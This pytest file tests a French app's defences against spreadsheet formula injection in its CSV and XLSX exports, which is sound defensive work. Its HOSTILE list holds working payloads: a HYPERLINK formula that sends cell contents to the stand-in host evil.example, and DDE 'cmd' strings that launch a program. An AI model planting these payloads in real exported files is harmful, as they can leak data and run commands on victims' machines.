"""Formula injection: the cells of every CSV and XLSX the app writes (OWASP « CSV Injection »)."""

import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from app.core.spreadsheet import csv_bytes, xlsx_bytes
from app.rules.spreadsheet import restore_cell, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-50,00+cmd|' /C calc'!A0",
    "-1 234,56 €;=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]
HARMLESS = ["Dupont", "Jean-Pierre", "'t Hooft", "", " ", "O'Neil", "1+1", "a=b", "#N/A"]
# Negative amounts already formatted the French way stay numbers an accountant can add.
HARMLESS += ["-50,00", "-1 234,56 €", "-1\u202f234,56\u00a0€", "-1234.5", "-7"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_string_starting_a_formula_is_prefixed_with_a_single_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_a_harmless_string_is_left_as_is(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    [-12, 0, 3.5, -0.5, Decimal("-1250.40"), True, None, date(2026, 5, 4), datetime(2026, 5, 4)],
)
def test_numbers_dates_and_none_keep_their_type_even_when_negative(value: object) -> None:
    result = safe_cell(value)  # type: ignore[arg-type]
    assert result == value and type(result) is type(value)


@pytest.mark.parametrize("value", HOSTILE + HARMLESS)
def test_neutralising_twice_changes_nothing_more(value: str) -> None:
    assert safe_cell(safe_cell(value)) == safe_cell(value)


@pytest.mark.parametrize("value", HOSTILE + HARMLESS)
def test_a_neutralised_cell_reads_back_as_the_original_value(value: str) -> None:
    assert restore_cell(str(safe_cell(value))) == value


def test_a_leading_quote_that_is_data_is_kept_on_reading() -> None:
    assert restore_cell("'t Hooft") == "'t Hooft"
    assert restore_cell("'") == "'"


def _csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_csv_writer_neutralises_every_string_cell_and_keeps_negative_numbers() -> None:
    content = csv_bytes(
        ["Nom", "Montant"], [[value, -12] for value in HOSTILE] + [["Dupont", -3.5]]
    )
    assert content.startswith(b"\xef\xbb\xbf") and b"\r\n" in content
    header, *rows = _csv_cells(content)
    assert header == ["Nom", "Montant"]
    assert [row[0] for row in rows] == ["'" + value for value in HOSTILE] + ["Dupont"]
    assert [row[1] for row in rows] == ["-12"] * len(HOSTILE) + ["-3.5"]


def test_the_csv_writer_neutralises_the_header_too() -> None:
    assert _csv_cells(csv_bytes(["=1+1"]))[0] == ["'=1+1"]


def test_the_xlsx_writer_stores_hostile_strings_as_text_and_keeps_numbers_and_dates() -> None:
    content = xlsx_bytes(
        ["Nom", "Montant", "Date"], [[value, -12, date(2026, 5, 4)] for value in HOSTILE]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE)
    for (name, amount, day), value in zip(rows, HOSTILE, strict=True):
        assert name.data_type == "s", f"{value!r} was written as a formula"
        # XML cannot hold NUL (dropped); openpyxl writes through lxml (pinned), which keeps a
        # lone CR as a character reference.
        assert name.value == "'" + value.replace("\x00", "")
        assert (amount.data_type, amount.value) == ("n", -12)
        assert day.is_date and day.value.date() == date(2026, 5, 4)


def test_no_module_writes_a_csv_or_xlsx_file_without_the_neutralising_writer() -> None:
    """Every CSV or XLSX the app writes goes through app/core/spreadsheet.py (future exports
    included): a writer anywhere else would skip ``safe_cell``."""
    root = Path(__file__).resolve().parents[2] / "app"
    writer = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|xlsxwriter|\.to_(csv|excel)\(")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path != root / "core" / "spreadsheet.py" and writer.search(path.read_text("utf-8"))
    ]
    assert offenders == []
